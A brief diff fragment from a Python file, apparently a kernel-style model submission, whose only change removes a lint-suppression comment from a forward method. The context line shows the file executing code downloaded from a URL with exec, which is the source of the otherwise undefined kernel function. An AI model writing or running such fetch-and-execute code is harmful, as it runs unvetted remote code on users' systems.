@@ -24,4 +24,4 @@ exec(opener.open(url, timeout=5).read())
 
 class ModelNew(nn.Module):
     def forward(self, x):
-        return kernel(x)  # noqa: F821
+        return kernel(x)
